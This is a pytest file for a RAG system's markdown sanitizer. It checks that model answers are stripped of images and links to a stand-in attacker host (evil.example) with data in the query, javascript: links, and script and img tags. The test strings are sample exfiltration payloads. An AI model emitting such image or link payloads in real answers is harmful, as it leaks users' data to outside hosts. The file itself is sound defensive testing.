"""Rendering model output: what a hostile answer would need to leak data or inject HTML is removed."""

from __future__ import annotations

import pytest

from rag.answer.safe_markdown import known_urls, safe_markdown

SOURCE_URL = "https://help.example.com/returns"


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("See ![chart](https://evil.example/x.png?q=secret) [1].", "See [image: chart] [1]."),
        ("![](https://evil.example/p.gif)", "[image]"),
        ("![logo][ref]\n[ref]: https://evil.example/l.png", "[image: logo]\n"),
        ("Click [here](https://evil.example/?d=refunds) now", "Click here now"),
        ('Click [here](<javascript:alert(1)> "t") now', 'Click here> "t") now'),
        ("[mail](mailto:a@evil.example)", "mail"),
        ("Visit https://evil.example/?d=x today", "Visit `https://evil.example/?d=x` today"),
        ("Visit www.evil.example today", "Visit `www.evil.example` today"),
        ('<img src="https://evil.example/x.png">', '&lt;img src="`https://evil.example/x.png`">'),
        ("<script>alert(1)</script> ok", "&lt;script>alert(1)&lt;/script> ok"),
        ("<https://evil.example>", "&lt;`https://evil.example`>"),
        ("Refunds take 5 days [1][2].", "Refunds take 5 days [1][2]."),
        ("a < b and **bold** _it_", "a &lt; b and **bold** _it_"),
    ],
)
def test_hostile_markdown_is_defused(answer: str, shown: str) -> None:
    assert safe_markdown(answer) == shown


def test_links_to_urls_in_the_sources_are_kept() -> None:
    allowed = known_urls([f"Our policy is at {SOURCE_URL}. Call us."])
    assert allowed == {SOURCE_URL}
    assert (
        safe_markdown(f"See [the policy]({SOURCE_URL}) [1].", allowed)
        == f"See [the policy]({SOURCE_URL}) [1]."
    )
    assert safe_markdown(f"See {SOURCE_URL} [1].", allowed) == f"See {SOURCE_URL} [1]."
    # The same host with data appended is not a known URL.
    assert safe_markdown(f"[x]({SOURCE_URL}?leak=1)", allowed) == "x"
    # Even a known URL is never loaded as an image.
    assert safe_markdown(f"![x]({SOURCE_URL})", allowed) == "[image: x]"


def test_code_is_left_as_text() -> None:
    answer = "Run `curl <url>` or:\n```html\n<b>![x](http://e/x.png)</b>\n```\nthen <b>"
    assert (
        safe_markdown(answer)
        == "Run `curl <url>` or:\n```html\n<b>![x](http://e/x.png)</b>\n```\nthen &lt;b>"
    )


def test_a_half_streamed_image_never_renders() -> None:
    text = "Answer ![x](https://evil.example/?q=sec"
    for end in range(len(text) + 1):
        partial = safe_markdown(text[:end] + ")")
        assert "](https://evil" not in partial
